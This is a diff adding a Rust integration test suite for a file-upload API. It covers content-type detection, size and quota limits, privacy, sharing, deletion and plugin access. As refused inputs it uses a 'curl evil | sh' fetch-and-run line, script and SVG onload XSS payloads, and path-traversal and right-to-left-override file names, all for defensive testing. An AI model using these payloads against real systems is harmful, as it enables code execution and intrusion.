@@ -1,0 +1,714 @@
+//! Files end to end: uploads (raw and multipart) with names in Chinese, type detection by
+//! content, refused programs and documents, the upload limit and the organization quota
+//! (nothing stored when refused), privacy (everyone else gets 404), sharing, deletion and
+//! hostile names — on SQLite and PostgreSQL.
+
+use std::path::{Path, PathBuf};
+
+use crate::common::{Backend, Client, TestServer, command, target_dir};
+use base64::Engine as _;
+use serde_json::{Value, json};
+use sha2::{Digest, Sha256};
+use tokio::io::{AsyncReadExt, AsyncWriteExt};
+
+const PNG: &[u8] = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0\x1f\x15\xc4\x89\0\0\0\rIDATx\x9cc\xf8\xcf\xc0\xf0\x1f\0\x05\0\x01\xff\x89\x99=\x1d\0\0\0\0IEND\xaeB`\x82";
+
+fn elf() -> Vec<u8> {
+    let mut v = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0".to_vec();
+    v.resize(4096, 0);
+    v
+}
+
+/// Bytes that are not text and match no known format.
+fn noise(len: usize) -> Vec<u8> {
+    let mut x: u32 = 0x9E37_79B9;
+    (0..len)
+        .map(|_| {
+            x ^= x << 13;
+            x ^= x >> 17;
+            x ^= x << 5;
+            (x >> 24) as u8 | 0x80
+        })
+        .collect()
+}
+
+fn sha256(bytes: &[u8]) -> String {
+    Sha256::digest(bytes)
+        .iter()
+        .map(|b| format!("{b:02x}"))
+        .collect()
+}
+
+/// Uploads raw bytes, optionally with a name.
+async fn upload(c: &Client, name: Option<&str>, body: Vec<u8>) -> (u16, Value) {
+    let mut req = c
+        .http
+        .post(format!("{}/api/v1/files", c.base))
+        .header("content-type", "application/octet-stream")
+        .body(body);
+    if let Some(n) = name {
+        req = req.query(&[("name", n)]);
+    }
+    if let Some(t) = &c.token {
+        req = req.bearer_auth(t);
+    }
+    let res = req.send().await.expect("upload");
+    let status = res.status().as_u16();
+    (status, res.json().await.unwrap_or(Value::Null))
+}
+
+/// Uploads as `multipart/form-data` with one `file` part, built by hand.
+async fn upload_form(c: &Client, part_name: &str, file_name: &str, body: &[u8]) -> (u16, Value) {
+    let boundary = "courtyard-test-boundary-7d3f";
+    let mut form = format!(
+        "--{boundary}\r\nContent-Disposition: form-data; name=\"{part_name}\"; filename=\"{file_name}\"\r\n\
+         Content-Type: application/octet-stream\r\n\r\n"
+    )
+    .into_bytes();
+    form.extend_from_slice(body);
+    form.extend_from_slice(format!("\r\n--{boundary}--\r\n").as_bytes());
+    let res = c
+        .http
+        .post(format!("{}/api/v1/files", c.base))
+        .header(
+            "content-type",
+            format!("multipart/form-data; boundary={boundary}"),
+        )
+        .bearer_auth(c.token.as_deref().unwrap())
+        .body(form)
+        .send()
+        .await
+        .expect("upload");
+    let status = res.status().as_u16();
+    (status, res.json().await.unwrap_or(Value::Null))
+}
+
+async fn download(c: &Client, id: &str, if_none_match: Option<&str>) -> reqwest::Response {
+    let mut req = c.http.get(format!("{}/api/v1/files/{id}", c.base));
+    if let Some(t) = &c.token {
+        req = req.bearer_auth(t);
+    }
+    if let Some(tag) = if_none_match {
+        req = req.header("if-none-match", tag);
+    }
+    req.send().await.expect("download")
+}
+
+fn header<'a>(res: &'a reqwest::Response, name: &str) -> &'a str {
+    res.headers()
+        .get(name)
+        .and_then(|v| v.to_str().ok())
+        .unwrap_or("")
+}
+
+#[track_caller]
+fn assert_refused(answer: &(u16, Value), status: u16, code: &str) {
+    let (got, body) = answer;
+    assert_eq!(*got, status, "expected {status} {code}: {body}");
+    assert_eq!(body["code"], code, "{body}");
+    assert!(
+        body["message"].as_str().is_some_and(|m| !m.is_empty()),
+        "{body}"
+    );
+    assert!(
+        body["message_zh"].as_str().is_some_and(|m| !m.is_empty()),
+        "no Chinese message: {body}"
+    );
+}
+
+fn files_dir(server: &TestServer) -> PathBuf {
+    let config = &server.app.config;
+    config.files.local_dir(&config.data_dir)
+}
+
+/// Every file under the store's directory (objects and anything half-written).
+fn stored(server: &TestServer) -> Vec<PathBuf> {
+    fn walk(dir: &Path, out: &mut Vec<PathBuf>) {
+        for entry in std::fs::read_dir(dir).into_iter().flatten().flatten() {
+            let path = entry.path();
+            if path.is_dir() {
+                walk(&path, out);
+            } else {
+                out.push(path);
+            }
+        }
+    }
+    let mut out = Vec::new();
+    walk(&files_dir(server), &mut out);
+    out
+}
+
+async fn round_trip(backend: Backend) {
+    let server = TestServer::start(backend).await;
+    let org = server.org("Files Co").await;
+    let (_, alice) = server.person(&org, "Alice", "member").await;
+
+    let text = "差旅报销单已提交。\nTravel expenses submitted.\n"
+        .as_bytes()
+        .to_vec();
+    let (status, file) = upload(&alice, Some("报销单 2024.txt"), text.clone()).await;
+    assert_eq!(status, 201, "{file}");
+    let id = file["id"].as_str().unwrap().to_owned();
+    assert_eq!(file["name"], "报销单 2024.txt");
+    assert_eq!(file["content_type"], "text/plain");
+    assert_eq!(file["size"], text.len());
+    assert_eq!(file["sha256"], sha256(&text));
+    assert!(file["created_at"].as_i64().unwrap() > 0);
+    let keys: Vec<&String> = file.as_object().unwrap().keys().collect();
+    assert_eq!(
+        keys.len(),
+        6,
+        "exactly id, name, content_type, size, sha256, created_at: {file}"
+    );
+
+    let res = download(&alice, &id, None).await;
+    assert_eq!(res.status(), 200);
+    assert_eq!(header(&res, "content-type"), "text/plain; charset=utf-8");
+    assert_eq!(
+        header(&res, "content-disposition"),
+        "inline; filename=\"___ 2024.txt\"; filename*=UTF-8''%E6%8A%A5%E9%94%80%E5%8D%95%202024.txt"
+    );
+    assert_eq!(header(&res, "x-content-type-options"), "nosniff");
+    assert!(header(&res, "content-security-policy").starts_with("sandbox"));
+    let etag = format!("\"{}\"", sha256(&text));
+    assert_eq!(header(&res, "etag"), etag);
+    assert_eq!(res.bytes().await.unwrap().as_ref(), text.as_slice());
+
+    // The ETag revalidates.
+    let res = download(&alice, &id, Some(&etag)).await;
+    assert_eq!(res.status(), 304);
+    assert!(res.bytes().await.unwrap().is_empty());
+    assert_eq!(download(&alice, &id, Some("\"other\"")).await.status(), 200);
+
+    let (status, info) = alice.get(&format!("/api/v1/files/{id}/info")).await;
+    assert_eq!(status, 200);
+    assert_eq!(info, file);
+
+    // A multipart form with one `file` part works too; its file name is used.
+    let (status, form_file) = upload_form(&alice, "file", "照片.png", PNG).await;
+    assert_eq!(status, 201, "{form_file}");
+    assert_eq!(form_file["name"], "照片.png");
+    assert_eq!(form_file["content_type"], "image/png");
+    assert_eq!(form_file["size"], PNG.len());
+    let res = download(&alice, form_file["id"].as_str().unwrap(), None).await;
+    assert_eq!(res.bytes().await.unwrap().as_ref(), PNG);
+    assert_refused(
+        &upload_form(&alice, "attachment", "x.png", PNG).await,
+        400,
+        "invalid_body",
+    );
+    // Uploads are not bound by the API's small request limit, in either form.
+    let big = noise(300 << 10);
+    let (status, big_form) = upload_form(&alice, "file", "big.bin", &big).await;
+    assert_eq!(status, 201, "{big_form}");
+    assert_eq!(big_form["sha256"], sha256(&big));
+    let (status, big_raw) = upload(&alice, Some("big.bin"), big.clone()).await;
+    assert_eq!(status, 201, "{big_raw}");
+    assert_eq!(big_raw["size"], big.len());
+
+    // Signed in only.
+    let anon = server.client();
+    assert_eq!(upload(&anon, Some("x.txt"), b"hi".to_vec()).await.0, 401);
+    assert_eq!(download(&anon, &id, None).await.status(), 401);
+
+    // Files survive a restart.
+    let server = server.restart().await;
+    let alice = Client {
+        base: server.base.clone(),
+        ..alice
+    };
+    let res = download(&alice, &id, None).await;
+    assert_eq!(res.status(), 200);
+    assert_eq!(res.bytes().await.unwrap().as_ref(), text.as_slice());
+}
+
+async fn type_by_content(backend: Backend) {
+    let server = TestServer::start(backend).await;
+    let org = server.org("Types Co").await;
+    let (_, alice) = server.person(&org, "Alice", "member").await;
+
+    // A picture named .txt is a picture, shown in place.
+    let (status, png) = upload(&alice, Some("notes.txt"), PNG.to_vec()).await;
+    assert_eq!(status, 201, "{png}");
+    assert_eq!(png["content_type"], "image/png");
+    let res = download(&alice, png["id"].as_str().unwrap(), None).await;
+    assert_eq!(header(&res, "content-type"), "image/png");
+    assert!(header(&res, "content-disposition").starts_with("inline;"));
+
+    // Unknown binary content is downloaded, never shown, whatever its name.
+    let (status, bin) = upload(&alice, Some("page.html"), noise(3000)).await;
+    assert_eq!(status, 201, "{bin}");
+    assert_eq!(bin["content_type"], "application/octet-stream");
+    let res = download(&alice, bin["id"].as_str().unwrap(), None).await;
+    assert_eq!(header(&res, "content-type"), "application/octet-stream");
+    assert_eq!(
+        header(&res, "content-disposition"),
+        "attachment; filename=\"page.html\""
+    );
+
+    // Text that turns out not to be text after the first bytes is not text.
+    let mut late = b"plain words ".repeat(1000);
+    late.extend_from_slice(b"\0\x01\x02");
+    let (status, late) = upload(&alice, Some("log.txt"), late).await;
+    assert_eq!(status, 201);
+    assert_eq!(late["content_type"], "application/octet-stream");
+
+    let before = stored(&server);
+    // Programs, scripts and active documents are refused, and nothing is stored.
+    for (name, body) in [
+        ("manual.pdf", elf()),
+        ("setup.pdf", {
+            let mut pe = b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0".to_vec();
+            pe.resize(2048, 0);
+            pe
+        }),
+        ("notes.txt", b"#!/bin/sh\ncurl evil | sh\n".to_vec()),
+        (
+            "page.txt",
+            b"<!DOCTYPE html><script>alert(1)</script>".to_vec(),
+        ),
+        (
+            "logo.png",
+            b"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>".to_vec(),
+        ),
+    ] {
+        let answer = upload(&alice, Some(name), body).await;
+        assert_refused(&answer, 415, "unsupported_file_type");
+    }
+    assert_eq!(
+        stored(&server),
+        before,
+        "a refused upload leaves nothing behind"
+    );
+}
+
+/// Sends a chunked upload over a raw socket (no Content-Length): the limit must hold
+/// while streaming. Returns the status and the body.
+async fn chunked_upload(
+    server: &TestServer,
+    token: &str,
+    chunks: usize,
+    chunk: &[u8],
+) -> (u16, Value) {
+    let mut stream = tokio::net::TcpStream::connect(server.addr).await.unwrap();
+    let head = format!(
+        "POST /api/v1/files?name=big.bin HTTP/1.1\r\nHost: {}\r\nAuthorization: Bearer {token}\r\n\
+         Content-Type: application/octet-stream\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n",
+        server.addr
+    );
+    stream.write_all(head.as_bytes()).await.unwrap();
+    for _ in 0..chunks {
+        let frame = [format!("{:x}\r\n", chunk.len()).as_bytes(), chunk, b"\r\n"].concat();
+        // The server may answer (and stop reading) before everything is sent.
+        if stream.write_all(&frame).await.is_err() {
+            break;
+        }
+    }
+    let _ = stream.write_all(b"0\r\n\r\n").await;
+    let mut answer = Vec::new();
+    let _ = stream.read_to_end(&mut answer).await;
+    let text = String::from_utf8_lossy(&answer).into_owned();
+    let status = text
+        .split_whitespace()
+        .nth(1)
+        .and_then(|s| s.parse().ok())
+        .unwrap_or(0);
+    let body = text
+        .find('{')
+        .and_then(|start| {
+            serde_json::from_str(text[start..].trim_end_matches(['\r', '\n', '0'])).ok()
+        })
+        .unwrap_or(Value::Null);
+    (status, body)
+}
+
+async fn limits_and_quota(backend: Backend) {
+    let server = TestServer::start_with(backend, |c| {
+        c.files.max_upload_bytes = 64 << 10;
+        c.files.org_quota_bytes = 100 << 10;
+    })
+    .await;
+    let org = server.org("Quota Co").await;
+    let other_org = server.org("Other Co").await;
+    let (_, alice) = server.person(&org, "Alice", "member").await;
+    let (_, bob) = server.person(&org, "Bob", "member").await;
+    let (_, carol) = server.person(&other_org, "Carol", "member").await;
+
+    // Over the limit, declared: refused before reading.
+    let answer = upload(&alice, Some("big.bin"), noise((64 << 10) + 1)).await;
+    assert_refused(&answer, 413, "file_too_large");
+    assert!(
+        answer.1["message"].as_str().unwrap().contains("64 KiB"),
+        "{}",
+        answer.1
+    );
+    // Over the limit, streamed without a length: refused while streaming.
+    let (status, body) =
+        chunked_upload(&server, alice.token.as_deref().unwrap(), 9, &noise(8 << 10)).await;
+    assert_eq!(status, 413, "{body}");
+    assert_eq!(body["code"], "file_too_large", "{body}");
+    // Empty.
+    assert_refused(
+        &upload(&alice, Some("empty.txt"), Vec::new()).await,
+        400,
+        "empty_file",
+    );
+    assert!(
+        stored(&server).is_empty(),
+        "nothing stored: {:?}",
+        stored(&server)
+    );
+
+    // Exactly the limit is fine; a chunked upload under the limit too.
+    let (status, first) = upload(&alice, Some("a.bin"), noise(64 << 10)).await;
+    assert_eq!(status, 201, "{first}");
+    let (status, second) =
+        chunked_upload(&server, bob.token.as_deref().unwrap(), 4, &noise(4 << 10)).await;
+    assert_eq!(status, 201, "{second}");
+    assert_eq!(second["size"], 16 << 10);
+    assert_eq!(stored(&server).len(), 2);
+
+    // 80 KiB of 100 KiB used: another 30 KiB is over the organization's quota, whoever
+    // uploads it; another organization has its own.
+    let answer = upload(&bob, Some("c.bin"), noise(30 << 10)).await;
+    assert_refused(&answer, 413, "quota_exceeded");
+    let answer = upload(&alice, Some("c.bin"), noise(20 << 10)).await;
+    assert_eq!(answer.0, 201, "{}", answer.1);
+    assert_refused(
+        &upload(&alice, Some("d.bin"), noise(1)).await,
+        413,
+        "quota_exceeded",
+    );
+    assert_eq!(stored(&server).len(), 3);
+    let (status, _) = upload(&carol, Some("c.bin"), noise(30 << 10)).await;
+    assert_eq!(status, 201);
+
+    // Deleting frees the quota.
+    let (status, _) = alice
+        .delete(&format!("/api/v1/files/{}", first["id"].as_str().unwrap()))
+        .await;
+    assert_eq!(status, 204);
+    let (status, _) = upload(&bob, Some("c.bin"), noise(30 << 10)).await;
+    assert_eq!(status, 201);
+}
+
+async fn privacy_and_sharing(backend: Backend) {
+    let server = TestServer::start(backend).await;
+    let org = server.org("Private Co").await;
+    let other_org = server.org("Elsewhere").await;
+    let (_, alice) = server.person(&org, "Alice", "member").await;
+    let (bob_id, bob) = server.person(&org, "Bob", "member").await;
+    let (_, admin) = server.person(&org, "Admin", "org_admin").await;
+    let (carol_id, carol) = server.person(&other_org, "Carol", "member").await;
+
+    let (status, file) = upload(&alice, Some("salary.txt"), b"confidential".to_vec()).await;
+    assert_eq!(status, 201);
+    let id = file["id"].as_str().unwrap().to_owned();
+    let info = format!("/api/v1/files/{id}/info");
+
+    // Nobody else may know it exists: not a colleague, not an organization admin, not the
+    // platform admin, not another organization.
+    for who in [&bob, &admin, &server.admin, &carol] {
+        assert_refused(&who.get(&info).await, 404, "not_found");
+        assert_eq!(download(who, &id, None).await.status(), 404);
+    }
+    for who in [&bob, &carol] {
+        assert_refused(
+            &who.delete(&format!("/api/v1/files/{id}")).await,
+            404,
+            "not_found",
+        );
+    }
+    // Malformed and unknown ids look the same.
+    assert_eq!(alice.get("/api/v1/files/not-an-id/info").await.0, 404);
+    assert_eq!(
+        alice
+            .get("/api/v1/files/0190a0a0-0000-7000-8000-000000000000/info")
+            .await
+            .0,
+        404
+    );
+
+    // Sharing: the uploader shares with someone they can see.
+    let grants = format!("/api/v1/files/{id}/grants");
+    assert_refused(
+        &alice.post(&grants, json!({"people": [carol_id]})).await,
+        422,
+        "invalid_reference",
+    );
+    let (status, _) = alice.post(&grants, json!({"people": [bob_id]})).await;
+    assert_eq!(status, 204);
+    let (status, _) = alice.post(&grants, json!({"people": [bob_id]})).await;
+    assert_eq!(status, 204, "sharing twice is harmless");
+    let (status, seen) = bob.get(&info).await;
+    assert_eq!(status, 200);
+    assert_eq!(seen, file);
+    let res = download(&bob, &id, None).await;
+    assert_eq!(res.status(), 200);
+    assert_eq!(res.bytes().await.unwrap().as_ref(), b"confidential");
+    // Bob may read it, but neither re-share nor delete it.
+    assert_refused(
+        &bob.post(&grants, json!({"people": [bob_id]})).await,
+        403,
+        "forbidden",
+    );
+    assert_refused(
+        &bob.delete(&format!("/api/v1/files/{id}")).await,
+        403,
+        "forbidden",
+    );
+    // Still private to everyone else.
+    assert_eq!(admin.get(&info).await.0, 404);
+    assert_eq!(carol.get(&info).await.0, 404);
+}
+
+async fn deletion(backend: Backend) {
+    let server = TestServer::start(backend).await;
+    let org = server.org("Delete Co").await;
+    let other_org = server.org("Other").await;
+    let (_, alice) = server.person(&org, "Alice", "member").await;
+    let (bob_id, _) = server.person(&org, "Bob", "member").await;
+    let (_, admin) = server.person(&org, "Admin", "org_admin").await;
+    let (_, foreign_admin) = server.person(&other_org, "Foreign", "org_admin").await;
+
+    let (_, first) = upload(&alice, Some("one.txt"), b"one".to_vec()).await;
+    let (_, second) = upload(&alice, Some("two.txt"), b"two".to_vec()).await;
+    let (first, second) = (
+        first["id"].as_str().unwrap().to_owned(),
+        second["id"].as_str().unwrap().to_owned(),
+    );
+    let (status, _) = alice
+        .post(
+            &format!("/api/v1/files/{first}/grants"),
+            json!({"people": [bob_id]}),
+        )
+        .await;
+    assert_eq!(status, 204);
+    assert_eq!(stored(&server).len(), 2);
+
+    // The uploader deletes: row, grants and bytes go.
+    let (status, body) = alice.delete(&format!("/api/v1/files/{first}")).await;
+    assert_eq!(status, 204, "{body}");
+    assert_eq!(
+        alice.get(&format!("/api/v1/files/{first}/info")).await.0,
+        404
+    );
+    assert_eq!(download(&alice, &first, None).await.status(), 404);
+    assert_eq!(alice.delete(&format!("/api/v1/files/{first}")).await.0, 404);
+    assert_eq!(stored(&server).len(), 1);
+
+    // An admin of another organization cannot; the organization's admin can.
+    assert_eq!(
+        foreign_admin
+            .delete(&format!("/api/v1/files/{second}"))
+            .await
+            .0,
+        404
+    );
+    let (status, body) = admin.delete(&format!("/api/v1/files/{second}")).await;
+    assert_eq!(status, 204, "{body}");
+    assert_eq!(
+        alice.get(&format!("/api/v1/files/{second}/info")).await.0,
+        404
+    );
+    assert!(stored(&server).is_empty());
+}
+
+async fn hostile_names(backend: Backend) {
+    let server = TestServer::start(backend).await;
+    let org = server.org("Names Co").await;
+    let (_, alice) = server.person(&org, "Alice", "member").await;
+
+    let long = format!("{}.txt", "很长的名字".repeat(100));
+    let cases: Vec<(Option<&str>, String)> = vec![
+        (Some("../../etc/passwd"), "passwd".into()),
+        (
+            Some("..\\..\\windows\\system32\\evil.txt"),
+            "evil.txt".into(),
+        ),
+        (Some("a\u{1}b\r\nc\u{7f}.txt"), "abc.txt".into()),
+        (Some("invoice\u{202E}txt.exe"), "invoicetxt.exe".into()),
+        (
+            Some("quote\"and;semicolon.txt"),
+            "quote\"and;semicolon.txt".into(),
+        ),
+        (Some(".."), "file".into()),
+        (None, "file".into()),
+        (
+            Some(long.as_str()),
+            format!(
+                "{}.txt",
+                "很长的名字"
+                    .repeat(100)
+                    .chars()
+                    .take(196)
+                    .collect::<String>()
+            ),
+        ),
+    ];
+    for (name, expected) in cases {
+        let (status, file) = upload(&alice, name, b"some text".to_vec()).await;
+        assert_eq!(status, 201, "{name:?}: {file}");
+        assert_eq!(file["name"], expected.as_str(), "{name:?}");
+        assert!(file["name"].as_str().unwrap().chars().count() <= 200);
+        let res = download(&alice, file["id"].as_str().unwrap(), None).await;
+        assert_eq!(res.status(), 200);
+        let disposition = header(&res, "content-disposition");
+        assert!(
+            !disposition.contains('/') && !disposition.contains('\\'),
+            "{disposition}"
+        );
+    }
+    // However it was named, every object is stored under the server's own key.
+    let dir = files_dir(&server);
+    for path in stored(&server) {
+        let key = path.strip_prefix(&dir).unwrap();
+        let parts: Vec<_> = key.iter().map(|p| p.to_str().unwrap().to_owned()).collect();
+        assert_eq!(parts.len(), 2, "{key:?}");
+        assert_eq!(parts[0], org);
+        assert!(uuid::Uuid::parse_str(&parts[1]).is_ok(), "{key:?}");
+    }
+}
+
+/// Installs the `probe` test plugin in an organization and enables it in a group.
+async fn install_probe(admin: &Client, member: &Client, org: &str, group: &str) {
+    let wasm_path = target_dir().join("wasm32-wasip2/release/courtyard_plugin_probe.wasm");
+    let wasm = std::fs::read(&wasm_path).unwrap_or_else(|e| {
+        panic!(
+            "{} is missing ({e}): build the plugins first with `cargo xtask build-plugins`",
+            wasm_path.display()
+        )
+    });
+    let manifest = std::fs::read_to_string(
+        PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("plugins/probe/courtyard.toml"),
+    )
+    .unwrap();
+    let package = json!({"package": {"manifest": manifest,
+        "wasm_base64": base64::engine::general_purpose::STANDARD.encode(wasm)}});
+    let (status, inst) = admin
+        .post(&format!("/api/v1/orgs/{org}/plugins"), package)
+        .await;
+    assert_eq!(status, 201, "{inst}");
+    let (status, e) = member
+        .request(
+            reqwest::Method::PUT,
+            &format!("/api/v1/groups/{group}/plugins/probe"),
+            Some(json!({})),
+        )
+        .await;
+    assert_eq!(status, 200, "{e}");
+}
+
+/// Plugins read files of their organization and share them (`files.get`, `files.share`);
+/// a form's file field takes only files the submitter uploaded or was given.
+async fn plugins_and_forms(backend: Backend) {
+    let server = TestServer::start(backend).await;
+    let org = server.org("Plugin Files Co").await;
+    let other_org = server.org("Elsewhere").await;
+    let (_, admin) = server.person(&org, "Org Admin", "org_admin").await;
+    let (alice_id, alice) = server.person(&org, "韩梅梅", "member").await;
+    let (bob_id, bob) = server.person(&org, "Li Lei", "member").await;
+    let (_, carol) = server.person(&other_org, "Carol", "member").await;
+    let (status, g) = alice
+        .post("/api/v1/groups", json!({"kind": "team", "name": "Finance"}))
+        .await;
+    assert_eq!(status, 201, "{g}");
+    let group = g["id"].as_str().unwrap().to_owned();
+    let (status, m) = alice
+        .post(
+            &format!("/api/v1/groups/{group}/members"),
+            json!({"person_id": bob_id}),
+        )
+        .await;
+    assert_eq!(status, 200, "{m}");
+    let (status, dept) = server
+        .admin
+        .post(
+            "/api/v1/groups",
+            json!({"kind": "department", "name": "财务部", "org_id": org}),
+        )
+        .await;
+    assert_eq!(status, 201, "{dept}");
+    let dept = dept["id"].as_str().unwrap().to_owned();
+    install_probe(&admin, &alice, &org, &group).await;
+
+    let (_, receipt) = upload(&alice, Some("发票.png"), PNG.to_vec()).await;
+    let receipt = receipt["id"].as_str().unwrap().to_owned();
+    let (_, foreign) = upload(&carol, Some("other.txt"), b"theirs".to_vec()).await;
+    let foreign = foreign["id"].as_str().unwrap().to_owned();
+
+    // The plugin reads a file of its organization, and only those.
+    let (status, reply) = command(&alice, &group, &format!("/file {receipt}")).await;
+    assert_eq!(status, 200, "{reply}");
+    assert_eq!(
+        reply["ephemeral"],
+        format!(
+            "file 发票.png image/png {} bytes by {alice_id} shared with 0",
+            PNG.len()
+        )
+    );
+    let (status, reply) = command(&alice, &group, &format!("/file {foreign}")).await;
+    assert_eq!(status, 422, "{reply}");
+
+    // Bob cannot read it until the plugin shares it with him.
+    assert_eq!(download(&bob, &receipt, None).await.status(), 404);
+    let (status, reply) = command(&alice, &group, &format!("/file {receipt} {bob_id}")).await;
+    assert_eq!(status, 200, "{reply}");
+    let res = download(&bob, &receipt, None).await;
+    assert_eq!(res.status(), 200);
+    assert_eq!(res.bytes().await.unwrap().as_ref(), PNG);
+    // It cannot share with people it cannot see.
+    let (status, reply) = command(
+        &alice,
+        &group,
+        &format!("/file {receipt} 0190a0a0-0000-7000-8000-000000000000"),
+    )
+    .await;
+    assert_eq!(status, 422, "{reply}");
+
+    // A form's file field: the submitter's own file, or one shared with them.
+    let (status, reply) = command(&bob, &group, "/claim").await;
+    assert_eq!(status, 200, "{reply}");
+    let form = reply["form"]["form"].clone();
+    let token = reply["form"]["token"].as_str().unwrap().to_owned();
+    let values = |file: &str| json!({"department": dept, "items": [{"qty": 2, "price": "3.50"}], "receipt": file});
+    let submit = |client: &Client, values: Value| {
+        let (client, form, token) = (client.clone(), form.clone(), token.clone());
+        async move {
+            client
+                .post(
+                    "/api/v1/forms",
+                    json!({"token": token, "form": form, "values": values}),
+                )
+                .await
+        }
+    };
+    let (_, own) = upload(&bob, Some("own.txt"), b"bob's".to_vec()).await;
+    let (_, unshared) = upload(&alice, Some("secret.txt"), b"alice's".to_vec()).await;
+    for refused in [
+        unshared["id"].as_str().unwrap(),
+        foreign.as_str(),
+        "0190a0a0-0000-7000-8000-000000000000",
+    ] {
+        let answer = submit(&bob, values(refused)).await;
+        assert_refused(&answer, 422, "invalid_reference");
+    }
+    for usable in [own["id"].as_str().unwrap(), receipt.as_str()] {
+        let (status, reply) = submit(&bob, values(usable)).await;
+        assert_eq!(status, 200, "{reply}");
+        assert!(
+            reply["ephemeral"].as_str().unwrap().contains(usable),
+            "{reply}"
+        );
+    }
+}
+
+both_backends!(
+    round_trip,
+    type_by_content,
+    limits_and_quota,
+    privacy_and_sharing,
+    deletion,
+    hostile_names,
+    plugins_and_forms,
+);
